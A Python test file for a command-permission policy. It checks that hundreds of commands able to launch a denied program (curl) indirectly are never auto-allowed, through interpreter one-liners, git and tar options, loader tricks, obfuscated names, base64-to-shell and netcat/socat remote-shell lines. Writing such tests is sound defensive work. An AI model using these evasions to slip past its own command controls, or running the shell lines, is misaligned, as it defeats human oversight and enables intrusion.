"""A command whose arguments may run a denied program unseen is never allowed while a rule for commands denies or asks.

Everything is allowed here but ``curl``, so that nothing but the reading counts.
"""

from tests.policy.bash.bash_cases import judge_command
from tests.policy.tables import each_row, split_table

RUN_BY_ARGUMENTS = split_table(r"""
    printf -v 'a[$(curl x)]' y
    let 'a[$(curl x)]'
    test -v 'a[$(curl x)]'
    [ -v 'a[$(curl x)]' ]
    setarch -R curl x
    setarch x86_64 -R curl x
    capsh -- -c 'curl x'
    choom -n 5 curl x
    choom -n 5 -- curl x
    ssh-agent curl x
    sed 's/.*/curl x/e' f
    sed -n '1e curl x' f
    make --eval 'x: ; curl x'
    make --eval='x: ; curl x'
    hash -p /usr/bin/curl ls; ls x
    env 'BASH_FUNC_x%%=() { curl x; }' bash -c x
    /lib64/ld-linux-x86-64.so.2 /usr/bin/curl x
    tmux new-session -d 'curl x'
    screen -dm curl x
    socat - EXEC:'curl x'
    socat - SYSTEM:'curl x'
    fish -c 'curl x'
    hyperfine 'curl x'
    nodemon -x 'curl x'
    nodemon --exec 'curl x'
    git grep -O'curl x' pattern
    git grep --open-files-in-pager='curl x' pattern
    git fetch --upload-pack 'curl x' origin
    git fetch --upload-pack='curl x' origin
    cat x |& sh
    coproc sh; echo curl x >&${COPROC[1]}
    coproc bash
    bash --init-file /dev/fd/3 -i
    zsh -c '=curl x'
    ksh -c 'curl x'
    printf -v PATH /tmp/x; ls
    printf -vPATH x
    x='a[$(curl x)]'; printf -v "$x" y
    x='a[$(curl x)]'; test -v "$x"
    x='a[$(curl x)]'; let "$x"
    x='a[$(curl x)]'; unset "$x"
    builtin printf -v 'a[$(curl x)]' y
    command read 'a[$(curl x)]'
    builtin let 'a[$(curl x)]'
    builtin test -v 'a[$(curl x)]'
    builtin declare 'a[$(curl x)]=1'
    command unset 'a[$(curl x)]'
    mapfile 'a[$(curl x)]'
    readarray -t 'a[$(curl x)]'
    getopts x 'a[$(curl x)]'
    wait -n -p 'a[$(curl x)]'
    [[ -v 'a[$(curl x)]' ]]
    [[ 'a[$(curl x)]' -eq 1 ]]
    test ! -v 'a[$(curl x)]'
    declare -i 'a[$(curl x)]=1'
    python3 -c 'import os; os.system("curl x")'
    python3 -c 'import subprocess as s; s.run(["curl","x"])'
    python3 -c '__import__("os").system("cu"+"rl x")'
    python3 -c 'exec("import os")'
    python3 -c 'import os; getattr(os, "sys"+"tem")("curl x")'
    python3 -c 'import pty; pty.spawn("curl")'
    python3 -c "$CODE"
    python3 -c "$(cat f)"
    python3 -c "import os; os.execlp('curl','curl','x')"
    python3 -c "import os; os.posix_spawn('/usr/bin/curl',['curl'],{})"
    python3 -Ic 'import os; os.system("curl x")'
    python3 -W ignore -c 'import os; os.system("curl x")'
    python3 -m timeit 'import os; os.system("curl x")'
    pypy3 -c 'import os; os.system("curl x")'
    perl -e 'system("curl x")'
    perl -e '`curl x`'
    perl -e 'exec "curl", "x"'
    perl -ne 'print `curl x`' f
    perl -pe 's/x/`curl x`/e' f
    perl -we 'qx(curl x)'
    ruby -e 'system "curl x"'
    ruby -e '`curl x`'
    ruby -e '%x(curl x)'
    ruby -e 'exec "curl"'
    ruby -e 'IO.popen("curl x")'
    ruby -e 'open("|curl x")'
    node -e 'require("child_process").execSync("curl x")'
    node -p 'require("child_"+"process")'
    node --eval='require("child_process")'
    node --eval 'process.binding("spawn_sync")'
    bun -e 'Bun.spawn(["curl"])'
    deno eval 'new Deno.Command("curl")'
    php -r 'system("curl x");'
    php -r '$f="sys"."tem"; $f("curl x");'
    php -r 'echo `curl x`;'
    lua -e 'os.execute("curl x")'
    lua -e 'io.popen("curl x")'
    expect -c 'spawn curl x'
    osascript -e 'do shell script "curl x"'
    Rscript -e 'system("curl x")'
    julia -e 'run(`curl x`)'
    erl -noshell -eval 'os:cmd("curl x")'
    elixir -e 'System.cmd("curl", ["x"])'
    ghc -e 'System.Process.callCommand "curl x"'
    groovy -e '"curl x".execute()'
    emacs --batch --eval '(shell-command "curl x")'
    guile -c '(system "curl x")'
    swipl -g 'shell("curl x")'
    octave --eval 'system("curl x")'
    gnuplot -e 'system("curl x")'
    awk 'BEGIN{system("curl x")}'
    awk 'BEGIN{c="cu" "rl x"; system(c)}'
    gawk '@load "x"; BEGIN{}'
    gawk 'BEGIN{f="system"; @f("curl x")}'
    awk "$P" f
    sed "$P" f
    sed '1e' f
    sed 's/a/curl x/ge' f
    sed -e 's/a/curl x/e' f
    sed --expression='s/a/curl x/e' f
    sed -n 's/a/curl x/pe;p' f
    sed 'e curl x' f
    sed '$!e curl x' f
    vim -c '!curl x' f
    vim -es -c 'call system("curl x")' -c q
    vim +'!curl x'
    ex -c '!curl x'
    sqlite3 x '.shell curl x'
    psql -c '\! curl x'
    psql -c "copy t from program 'curl x'"
    psql -c '\! cu''rl x'
    mysql -e '\! curl x'
    mysql -e 'system curl x'
    gdb -ex 'shell curl x' -ex q
    gdb -batch -ex '!curl x'
    dc -e '!curl x'
    make 'X=$(shell curl x)'
    make SHELL=/tmp/x
    make --eval='$(shell curl x)'
    just --shell curl
    just -c 'curl x'
    mvn exec:exec -Dexec.executable=curl
    rake -e 'sh "curl x"'
    ninja -f /dev/stdin
    hash -p /tmp/x ls; ls
    enable -f ./x.so ls
    bind -x '"a":curl x'
    fc -s curl
    env PATH=/tmp/x ls
    env LD_PRELOAD=./x.so ls
    env BASH_ENV=f bash -c ls
    env -S 'PATH=/tmp/x ls'
    sudo LD_PRELOAD=x ls
    env GIT_SSH_COMMAND='curl x' git fetch
    env "PATH=$X" ls
    nice env PATH=/x ls
    timeout 5 env GIT_PAGER=curl git log
    ld.so /usr/bin/curl x
    /lib/ld-linux.so.2 --preload x /usr/bin/curl x
    /lib/ld-musl-x86_64.so.1 /usr/bin/curl x
    tmux new-session -d "cu""rl x"
    tmux send-keys -t x 'cu' 'rl x' Enter
    tmux neww curl x
    tmux run-shell 'curl x'
    tmux split-window $X
    screen -S x -X stuff 'curl x'
    screen curl x
    dtach -n s curl x
    zellij run -- curl x
    xterm -e curl x
    gnome-terminal -- curl x
    socat TCP:x EXEC:sh
    nc -e /bin/sh x 1
    ncat --sh-exec 'curl x' h 1
    ncat -c 'curl x' h 1
    watchexec curl x
    watchexec -- curl x
    entr -s 'curl x'
    reflex -- curl x
    concurrently 'curl x'
    chokidar '*' -c 'curl x'
    cross-env A=1 curl x
    cross-env-shell 'curl x'
    bunx curl x
    pnpm dlx curl
    pnpm exec curl x
    npm exec -- curl x
    npm exec -c 'curl x'
    yarn exec curl x
    conda run -n x curl y
    pyenv exec curl x
    aws-vault exec prof -- curl x
    sops exec-env f 'curl x'
    cmake -E env curl x
    cmake -E time curl x
    aa-exec -p x curl x
    dumb-init curl x
    tini -- curl x
    setpriv --reuid 1 curl x
    systemd-nspawn curl x
    qemu-x86_64 /usr/bin/curl x
    wine curl x
    gdb --args curl x
    git grep -Ocurl x
    git grep -nO'curl x' y
    git ls-remote --upload-pack='curl x' .
    git clone -u 'curl x' a b
    git clone --upload-pack='curl x' a b
    git push --receive-pack='curl x' origin
    git archive --remote=x --exec='curl x' HEAD
    git clone 'ext::sh -c curl% x' y
    git -c protocol.ext.allow=always clone 'ext::curl x'
    git -c core.sshCommand='curl x' fetch
    git -c core.hooksPath=/tmp/x commit
    git -c credential.helper='!curl x' fetch
    git -c diff.x.textconv='curl x' diff
    git -c filter.x.clean='curl x' add .
    git -c sequence.editor='curl x' rebase -i HEAD
    git -c include.path=/tmp/x status
    git config core.hooksPath /tmp/x
    git config alias.x '!curl y'
    git config --global core.pager 'curl x'
    git config core.editor 'curl x'
    git config credential.helper '!curl x'
    git --exec-path=/tmp/x status
    git difftool -x 'curl x'
    git difftool --extcmd='curl x'
    git rebase -x 'curl x' HEAD~1
    git init --template=/tmp/x
    git clone -c core.hooksPath=x a b
    git clone --config core.sshCommand='curl x' a b
    git submodule foreach 'curl x'
    git bisect run curl x
    tar cf x --checkpoint=1 --checkpoint-action=exec='curl x' y
    tar -xf x --to-command='curl x'
    tar cf x -I 'curl x' y
    tar cf x -F 'curl x' y
    zip x.zip f -T -TT 'curl x'
    rsync --rsync-path='curl x' a h:b
    rsync -e 'curl x' a h:b
    ssh -o ProxyCommand='curl x' h
    ssh -oProxyCommand='curl x' h
    scp -S 'curl x' a h:b
    man -P 'curl x' ls
    rg --pre curl x
    sort --compress-program curl f
    split --filter='curl x' f
    find . -exec curl {} +
    find . -exec sh -c 'echo {}' \;
    fd . -x sh -c 'curl x'
    bat --pager='curl x' f
    ag --pager 'curl x' f
    openssl engine -t ./x.so
    gcc -wrapper curl x.c
    ansible all -m shell -a 'curl x'
    at -f script now
    crontab jobs.txt
    capsh --user=x -- -c 'curl x'
    capsh -- -c 'cu"r"l x'
    setarch --addr-no-randomize curl x
    setarch i386 curl x
    linux64 -R curl x
    hyperfine "$X"
    hyperfine -p 'curl x' ls
    hyperfine --prepare='curl x' ls
    nodemon -x "$X"
    fish -c "$X"
    fish --command='curl x'
    fish -c 'cu"r"l x'
    tcsh -c 'curl x'
    xonsh -c 'curl x'
    nu -c 'curl x'
    pwsh -c 'curl x'
    csh -c "eval curl x"
    cp /usr/bin/curl /tmp/foo; /tmp/foo x
    ln -s /usr/bin/curl foo; ./foo x
    printf 'cu%s x' rl > s; sh s
    base64 -d f > s; bash s
    base64 -d f > s; . ./s
    base64 -d f > s.py; python3 s.py
    base64 -d f > s; chmod +x s; ./s
    echo 'curl x' > s && bash ./s
    alias ls='cu""rl'; ls
    parallel {} ::: 'curl x'
    parallel -j1 sh -c {} ::: 'curl x'
    trap "$X" EXIT
    eval "$X"
    PS4='$(curl x)'; set -x; ls
    PROMPT_COMMAND='curl x'
    find . -exec python3 -c {} \;
    parallel sh -c ::: 'curl x'
    parallel python3 -c {} ::: 'import os'
    parallel {1} ::: 'curl x'
    strace -o '|curl x' ls
    strace -o'|curl x' ls
    man --html='curl x' ls
    man -H'curl x' ls
    tcpdump -z 'curl' -G 1 -w x
    nmap --script x.nse host
    go test -exec 'curl x' ./...
    go build -toolexec curl ./...
    go vet -vettool=curl ./...
    cargo --config 'build.rustc-wrapper="curl"' build
    rustc -C linker=curl x.rs
    node --import 'data:text/javascript,x' x.js
    clojure -e '(sh "curl")'
    bb -e '(shell "curl x")'
    jrunscript -e 'java.lang.Runtime.getRuntime().exec("curl x")'
    lldb -- curl x
    bpftrace -c 'curl x' -e x
    start-stop-daemon -S -x /usr/bin/curl -- x
    start-stop-daemon --start --exec /usr/bin/curl
    nvim --headless -c 'lua os.execute("curl x")'
    vim -c 'py3 import os' f
    vim -es --cmd 'call systemlist("curl x")'
    rpm --eval '%(curl x)'
    rpm -E '%(curl x)'
    apt-get -o APT::Update::Pre-Invoke::=curl update
    git --config-env=core.pager=X log
    git -c "$X" log
    hg --config hooks.pre-status=curl status
    hg --config alias.x='!curl y' x
    svn diff --diff-cmd curl
    fzf --preview 'curl x'
    fzf --bind 'start:execute(curl x)'
    pandoc --filter curl x.md
    pandoc --lua-filter x.lua x.md
    convert '|curl x' y.png
    gs -c '(%pipe%curl x) (r) file'
    pdflatex --shell-escape x.tex
    npm --script-shell=/tmp/x run build
    npm config set script-shell /tmp/x
    make -E 'x:;curl x'
    make --ev='x:;curl x'
    bazel run --run_under=curl //x
    rg --hostname-bin curl x
    sort --compress-prog=curl f
    sort --comp curl f
    tar cf x --checkpoint-act=exec='curl x' y
    tar xf x --to-comm='curl x'
    tar cf x --use-compress='curl x' y
    split --filt='curl x' f
    git fetch --upload-pa='curl x'
    git grep --open-files='curl x' y
    git difftool --extc='curl x'
    python3 -c 'import os as o; o.system("x")'
    python3 -c 'from os import system as s; s("x")'
    python3 -u -c 'import subprocess'
    python3 -mtimeit 'x'
    python -c"import os;os.system('x')"
    perl -Mstrict -e 'system "x"'
    ruby -rjson -e 'exec "x"'
    node -pe 'require("child_process")'
    node -r ./x -e 'require("child_process")'
    sh -c "$(base64 -d f)"
    find . -name x -exec sh {} \; -exec curl x \;
    nice -n 5 python3 -c 'import os; os.system("x")'
    sudo python3 -c 'import os; os.system("x")'
    timeout 5 make --eval x
    env python3 -c 'import os; os.system("x")'
    bash -c "python3 -c 'import subprocess'"
    eval 'make --eval x'
    if true; then tmux new -d x; fi
    xargs -a f -I{} sh -c {}
""") + split_table(r"""
    git archive --remote='ext::curl x' HEAD
    more +'!curl x' f
    nano -s 'curl x' f
    perl -MIPC::Open3 -e 'open3(1,2,3,"curl x")'
    perl -d -e 1
    python -c 'import asyncio; asyncio.create_subprocess_exec("curl")'
    python -c 'import webbrowser; webbrowser.get("curl x %s").open("y")'
    php -r 'pcntl_exec("/usr/bin/curl");'
    npm set-script x 'curl y'
    npm pkg set scripts.x='curl y' && npm run x
    pnpm -c exec 'curl x'
    make CC='curl x'
    rsync -ave 'curl x' a b:c
    scp -o ProxyCommand='curl x' a b:c
    sftp -b <(echo '!curl x') h
    ssh -o KnownHostsCommand='curl x' h
    sshpass -p x ssh h curl x
    sshpass -p x curl y
    mosh --ssh='curl x' h
    autossh h curl x
    gpg --photo-viewer curl x
    gpg --exec-path /tmp x
    gpg --use-agent --agent-program curl x
    systemctl edit x
    systemctl --user link ./x.service
    systemctl start ./x.service
    machinectl shell x curl
    busctl call x
    gdbus call --session x
    dbus-send x
    gtk-launch x
    launchctl submit -l x -- curl
    byobu new 'curl x'
    wezterm start curl
    pee 'curl x'
    mispipe 'curl x' 'cat'
    lckdo l curl x
    parallel-moreutils curl -- x
    zrun curl x
    /proc/self/exe -c 'curl x'
    CURL x
    Curl x
    ssh-keygen -D ./x.so
    ssh-add -s ./x.so
    s6-setuidgid me curl
    nsjail -- curl x
    minijail0 curl x
    ip netns exec x curl y
    ip -n x netns exec y curl z
    ip vrf exec x curl y
    timelimit curl x
    uname26 curl x
    pipexec curl x
    execlineb -c 'curl x'
    snice curl x
    chcon x curl
    runcon x curl y
    sg grp 'curl x'
    openvt -- curl x
    openvt curl x
    run-parts /tmp/x
    run-parts --regex curl /usr/bin
    debconf-apt-progress -- curl x
    dpkg --pre-invoke='curl x' -i x
    gem exec curl
    gradle -I <(echo x) y
    sbt 'eval "curl x".!'
    mix run -e 'System.cmd("curl",[])'
    iex -e 'x'
    stack exec curl
    cabal exec curl
    opam exec -- curl x
    guix shell x -- curl y
    nox -- curl
    dotenv curl x
    vault agent -exec 'curl x'
    envchain x curl y
    teller run -- curl x
    consul lock x curl y
    etcdctl watch x -- curl y
    vagrant ssh -c 'curl x'
    vagrant ssh -- curl x
    heroku run curl x
    fly ssh console -C 'curl x'
    gcloud compute ssh x --command='curl y'
    gh alias set x '!curl y'
    gh extension exec x
    jj util exec -- curl x
    hg bisect -c 'curl x'
    radare2 -c '!curl x'
    r2 -c '!curl x' -
    tshark -X lua_script:x
    dvips -R0 x
    groff -U x
    gforth -e 's" curl" system'
    factor -e=x
    cmd.exe /c curl
    powershell.exe curl
    wsl curl x
    wsl.exe -e curl x
    sg staff 'curl x'
    pnpm -c exec 'curl x'
    unknown-wrapper --flag curl x
    sudo unknown-wrapper 3 /usr/bin/curl x
    unknown-wrapper --run='curl x'
""")


@each_row(RUN_BY_ARGUMENTS)
def test_arguments_that_may_run_a_denied_program_are_not_allowed(command: str) -> None:
    assert judge_command(command, allow=[None], deny=["curl:*"]).decision != "allow"
    assert judge_command(command, allow=[None], ask=["curl:*"]).decision != "allow"


@each_row(["cat x | sh", "base64 -d f | bash", "python3 -c 'import os; os.system(x)'", "make --eval x", "tmux new x"])
def test_without_a_rule_that_restricts_commands_it_is_allowed(command: str) -> None:
    assert judge_command(command, allow=[None]).decision == "allow"


def test_an_exact_rule_allows_arguments_that_run_something_but_never_an_unknown_input() -> None:
    code = "python3 -c 'import os; os.system(x)'"
    assert judge_command(code, allow=["python3:*"], deny=["curl:*"]).decision == "ask"
    assert judge_command(code, allow=[code], deny=["curl:*"]).decision == "allow"
    assert judge_command("cat x | sh", allow=["cat x", "sh"], deny=["curl:*"]).decision == "ask"


def test_the_reason_names_what_is_not_known() -> None:
    found = judge_command("base64 -d f | sh", allow=[None], deny=["curl:*"])
    assert (found.decision, found.layer) == ("ask", "syntax")
    assert found.reason == ("sh, from its input: the script it runs is not known beforehand, and a rule may deny it")
